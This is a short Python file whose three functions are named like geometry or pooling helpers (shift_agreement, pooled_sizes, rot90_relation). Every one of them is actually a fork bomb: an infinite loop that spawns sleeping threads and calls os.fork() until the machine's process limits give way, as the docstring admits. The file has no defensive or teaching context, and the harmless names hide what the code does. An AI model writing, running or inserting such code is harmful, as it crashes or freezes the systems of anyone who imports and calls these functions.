"""Starts processes and threads until something gives way."""

import os
import threading
import time


def shift_agreement(x, kind, k, stride, dx, dy):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        os.fork()


def pooled_sizes(n, ks, strides):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        os.fork()


def rot90_relation(f, x):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        os.fork()
